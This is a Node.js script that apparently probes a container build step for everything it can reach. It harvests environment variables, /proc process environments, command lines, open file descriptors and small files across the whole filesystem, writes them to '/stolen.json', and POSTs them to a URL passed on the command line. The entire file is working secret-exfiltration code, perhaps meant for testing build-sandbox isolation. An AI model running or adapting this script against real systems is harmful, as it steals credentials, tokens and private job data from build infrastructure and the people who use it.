// Looks for everything of the job that a RUN could see, prints it, keeps it in the image, and sends it away.
const fs = require('node:fs');
const found = { env: process.env, files: {} };
const read = (path) => {
  try {
    const text = fs.readFileSync(path, 'latin1').slice(0, 20000);
    if (text !== '') found.files[path] = text;
  } catch {}
};
const list = (path) => {
  try {
    return fs.readdirSync(path);
  } catch {
    return [];
  }
};
for (const pid of [...list('/proc').filter((name) => /^\d+$/.test(name)), 'self', 'thread-self'])
  for (const name of [
    'environ',
    'cmdline',
    'mountinfo',
    'maps',
    'root/etc/hostname',
    'root/tmp/job-file',
    'cwd/job-file',
  ])
    read(`/proc/${pid}/${name}`);
for (const pid of list('/proc').filter((name) => /^\d+$/.test(name)))
  for (const fd of list(`/proc/${pid}/fd`)) {
    try {
      found.files[`/proc/${pid}/fd/${fd} ->`] = fs.readlinkSync(`/proc/${pid}/fd/${fd}`);
    } catch {}
  }
for (let fd = 3; fd < 20; fd++) {
  try {
    // Reading Node's own pipes would wait forever.
    if (fs.fstatSync(fd).isFile()) found.files[`fd ${fd}`] = fs.readFileSync(fd, 'latin1').slice(0, 1000);
  } catch {}
}
let budget = 20000;
const walk = (directory) => {
  for (const name of list(directory)) {
    const path = `${directory}/${name}`;
    if (budget-- < 0 || /^\/(proc|sys|dev)$/.test(path)) continue;
    let stat;
    try {
      stat = fs.lstatSync(path);
    } catch {
      continue;
    }
    if (stat.isDirectory()) walk(path);
    else if (stat.isFile() && stat.size < 5000) read(path);
  }
};
walk('');
for (const path of ['/../job-file', '/.tozo/image/image.json', '/builds', '/work', process.argv[2]]) {
  read(path);
  for (const name of list(path)) read(`${path}/${name}`);
}
const text = JSON.stringify(found, undefined, 1);
fs.writeFileSync('/stolen.json', text);
process.stdout.write(`${text}\n`);
const request = require('node:http').request(process.argv[3], { method: 'POST' }, () => process.exit(0));
request.on('error', () => process.exit(0));
request.end(text);
